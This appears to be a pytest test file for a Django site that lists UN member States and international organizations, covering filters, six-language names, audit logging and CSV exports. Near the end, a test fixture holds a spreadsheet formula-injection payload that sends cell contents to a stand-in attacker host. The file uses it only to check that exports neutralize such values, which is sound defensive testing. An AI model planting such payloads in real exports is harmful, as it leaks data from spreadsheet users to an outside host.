"""The public pages of States and organizations, and their CSV exports."""

import csv
import io

import pytest
from django.urls import reverse

from smallarms.states.models import State

pytestmark = pytest.mark.django_db


def csv_rows(response):
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_anyone_sees_the_list_of_all_states(client):
    response = client.get(reverse("states:state_list"))
    assert response.status_code == 200
    assert len(response.context["object_list"]) == 195
    assert "Kenya" in response.text and "Holy See" in response.text


def test_the_state_list_filters_by_regional_group_and_region(client):
    response = client.get(reverse("states:state_list"), {"regional_group": "eeg"})
    iso3 = {s.iso3 for s in response.context["object_list"]}
    assert len(iso3) == 23 and {"POL", "RUS", "UKR"} <= iso3 and "DEU" not in iso3

    response = client.get(reverse("states:state_list"), {"region": "009"})
    assert {s.iso3 for s in response.context["object_list"]} >= {"AUS", "FJI", "KIR"}
    assert len(response.context["object_list"]) == 14


def test_the_state_list_finds_a_state_by_any_of_its_names(client):
    for query in ("côte", "ivoire", "Кот-д", "科特迪瓦"):
        response = client.get(reverse("states:state_list"), {"q": query})
        assert [s.iso3 for s in response.context["object_list"]] == ["CIV"], query


def test_the_state_list_filters_by_organization(client):
    response = client.get(reverse("states:state_list"), {"organization": "ecowas"})
    iso3 = {s.iso3 for s in response.context["object_list"]}
    assert len(iso3) == 12 and "NGA" in iso3 and "MLI" not in iso3


def test_an_unknown_filter_value_shows_a_message_and_no_states(client):
    response = client.get(reverse("states:state_list"), {"regional_group": "nordic"})
    assert response.status_code == 200
    assert "Select a valid choice" in response.text


def test_the_state_list_is_in_the_reader_language_and_right_to_left_in_arabic(client):
    response = client.get(reverse("states:state_list"), HTTP_ACCEPT_LANGUAGE="ar")
    assert '<html lang="ar" dir="rtl">' in response.text
    assert "كينيا" in response.text

    response = client.get(reverse("states:state_list"), HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert '<html lang="zh-hans" dir="ltr">' in response.text
    assert "肯尼亚" in response.text


def test_the_state_page_shows_codes_group_names_and_memberships(client):
    response = client.get(reverse("states:state_detail", kwargs={"iso3": "NER"}))
    assert response.status_code == 200
    page = response.text
    for expected in ("Niger", "the Republic of the Niger", "NER", "NE", "562", "African States"):
        assert expected in page
    assert "Nigeria" not in page
    assert "النيجر" in page and "尼日尔" in page


def test_the_state_page_accepts_a_lowercase_code_and_answers_404_for_an_unknown_one(client):
    assert client.get("/states/ken/").status_code == 200
    response = client.get("/states/XXX/")
    assert response.status_code == 404
    assert "Page not found" in response.text


def test_the_state_page_explains_a_regional_group_edge_case(client):
    response = client.get(reverse("states:state_detail", kwargs={"iso3": "USA"}))
    assert "observer" in response.text


def test_the_state_page_lists_former_names(client):
    response = client.get(reverse("states:state_detail", kwargs={"iso3": "SWZ"}))
    assert "Swaziland" in response.text


def test_the_state_export_has_the_filtered_rows_and_names_in_six_languages(client):
    response = client.get(reverse("states:state_export"), {"regional_group": "grulac"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="states.csv"' in response["Content-Disposition"]
    rows = csv_rows(response)
    assert len(rows) == 33
    brazil = next(row for row in rows if row["iso3"] == "BRA")
    assert brazil["short_name_ar"] == "البرازيل"
    assert brazil["short_name_zh-hans"] == "巴西"
    assert brazil["region"] == "Americas"
    assert brazil["un_member"] == "true"


def test_an_export_is_recorded_with_its_filters_and_row_count(client):
    from smallarms.audit.models import Entry

    client.get(reverse("states:state_export"), {"regional_group": "eeg"})
    entry = Entry.objects.filter(event="export").latest("sequence")
    assert entry.data == {
        "export": "states",
        "format": "csv",
        "filters": {"regional_group": "eeg"},
        "rows": 23,
    }
    assert entry.actor_id is None


def test_anyone_sees_the_organizations_and_filters_them_by_kind_and_member(client):
    response = client.get(reverse("states:organization_list"), {"kind": "un_entity"})
    slugs = {o.slug for o in response.context["object_list"]}
    assert {"unoda", "unrec", "undp"} <= slugs and "ecowas" not in slugs

    response = client.get(reverse("states:organization_list"), {"member": "KEN"})
    slugs = {o.slug for o in response.context["object_list"]}
    assert {"au", "eac", "igad", "recsa", "icglr"} <= slugs and "ecowas" not in slugs


def test_the_organization_search_finds_acronyms_in_any_language(client):
    response = client.get(reverse("states:organization_list"), {"q": "CEDEAO"})
    assert [o.slug for o in response.context["object_list"]] == ["ecowas"]


def test_the_organization_page_lists_members_and_units(client):
    response = client.get(reverse("states:organization_detail", kwargs={"slug": "ecowas"}))
    assert response.status_code == 200
    assert "Nigeria" in response.text and "Ghana" in response.text
    assert len(response.context["memberships"]) == 12

    response = client.get(reverse("states:organization_detail", kwargs={"slug": "unoda"}))
    units = {unit.slug for unit in response.context["organization"].units.all()}
    assert units >= {"unrec", "unrcpd", "unlirec"}


def test_an_unknown_organization_answers_404(client):
    assert client.get("/organizations/no-such-body/").status_code == 404


def test_the_organization_export_has_six_languages(client):
    response = client.get(reverse("states:organization_export"), {"q": "ecowas"})
    rows = csv_rows(response)
    assert [row["slug"] for row in rows] == ["ecowas"]
    assert rows[0]["acronym_fr"] == "CEDEAO"
    assert rows[0]["member_states"] == "12"


def test_the_home_page_leads_to_states_organizations_and_the_api(client):
    response = client.get(reverse("home"))
    assert response.status_code == 200
    for url in (reverse("states:state_list"), reverse("states:organization_list"), "/api/docs/"):
        assert f'href="{url}"' in response.text
    assert "195 States" in response.text


def test_the_language_switcher_offers_the_six_languages_in_their_own_script(client):
    response = client.get(reverse("home"))
    for label in ("العربية", "中文", "English", "Français", "Русский", "Español"):
        assert label in response.text


def test_switching_language_sets_it_for_the_next_pages(client):
    response = client.post("/i18n/setlang/", {"language": "fr", "next": "/states/"})
    assert response.status_code == 302
    response = client.get("/states/")
    assert '<html lang="fr"' in response.text
    assert "États" in response.text


def test_the_history_link_is_shown_to_signed_in_people_only(client, make_user):
    url = reverse("states:state_detail", kwargs={"iso3": "KEN"})
    assert "History of changes" not in client.get(url).text
    client.force_login(make_user("someone@example.org"))
    page = client.get(url).text
    assert "History of changes" in page
    kenya_history = f"/audit/history/states/state/{State.objects.get(iso3='KEN').pk}/"
    assert kenya_history in page
    assert client.get(kenya_history).status_code == 200


def test_the_state_list_shows_the_observer_states_alone(client):
    response = client.get(reverse("states:state_list"), {"un_member": "false"})
    assert sorted(s.iso3 for s in response.context["object_list"]) == ["PSE", "VAT"]
    response = client.get(reverse("states:state_list"), {"un_member": "true"})
    assert len(response.context["object_list"]) == 193


FORMULA = '=HYPERLINK("https://attacker.example/?"&A2,"Open")'


def test_a_state_name_that_looks_like_a_formula_is_neutralized_in_the_export(client):
    kenya = State.objects.get(iso3="KEN")
    kenya.names["fr"]["formal"] = FORMULA
    kenya.save()
    rows = csv_rows(client.get(reverse("states:state_export"), {"q": "Kenya"}))
    assert rows[0]["formal_name_fr"] == "'" + FORMULA
    kenya.refresh_from_db()
    assert kenya.names["fr"]["formal"] == FORMULA  # the data keeps what was typed


def test_an_organization_field_that_looks_like_a_formula_is_neutralized_in_the_export(client):
    from smallarms.states.models import Organization

    Organization.objects.filter(slug="ecowas").update(headquarters=FORMULA)
    rows = csv_rows(client.get(reverse("states:organization_export"), {"q": "ecowas"}))
    assert rows[0]["headquarters"] == "'" + FORMULA
